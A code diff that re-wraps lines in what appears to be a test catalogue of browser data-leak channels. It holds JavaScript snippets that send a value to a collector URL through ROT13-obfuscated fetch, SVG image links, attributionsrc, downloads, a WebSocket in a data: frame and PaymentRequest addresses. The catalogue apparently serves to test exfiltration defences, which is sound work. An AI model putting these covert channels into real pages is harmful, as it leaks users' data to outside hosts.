@@ -297,7 +297,8 @@ READS = (
     _js(
         "fetch GET, every letter moved by 13",
         """
-        fetch(hit('?' + v().replace(/[a-z]/g, c => String.fromCharCode((c.charCodeAt(0) - 84) % 26 + 97))))""",
+        fetch(hit('?' + v().replace(/[a-z]/g,
+        c => String.fromCharCode((c.charCodeAt(0) - 84) % 26 + 97))))""",
     ),
     _js(
         "fetch GET, split over parameters",
@@ -378,7 +379,7 @@ READS = (
     _js("video poster", "add('video', {poster: hit('?' + q())})"),
     _js(
         "SVG image",
-        "document.body.insertAdjacentHTML('beforeend', `<svg><image href='${hit('?' + q())}'/></svg>`)",
+        "add('div').innerHTML = `<svg><image href='${hit('?' + q())}'/></svg>`",
     ),
     _js("attributionsrc", "add('img', {attributionsrc: hit('?' + q())})"),
     _js("download", "add('a', {href: hit('?' + q()), download: 'x'}).click()"),
@@ -415,7 +416,8 @@ BESIDE_HTTP = (
     _js(
         "WebSocket in a data: frame",
         """
-        add('iframe', {src: `data:text/html,<script>new WebSocket('$WS$HIT?${q()}')<\\/script>`})""",
+        add('iframe',
+        {src: `data:text/html,<script>new WebSocket('$WS$HIT?${q()}')<\\/script>`})""",
     ),
     _js(
         "WebSocket in a popup",
@@ -493,7 +495,8 @@ BESIDE_HTTP = (
         "payment method's address",
         """
         new PaymentRequest([{supportedMethods: '$SELF' + hit('?' + q())}],
-        {total: {label: 'x', amount: {currency: 'EUR', value: '1'}}}).canMakePayment().catch(() => 0)""",
+        {total: {label: 'x', amount: {currency: 'EUR', value: '1'}}})
+        .canMakePayment().catch(() => 0)""",
     ),
     _js(
         "federated sign-in's address",
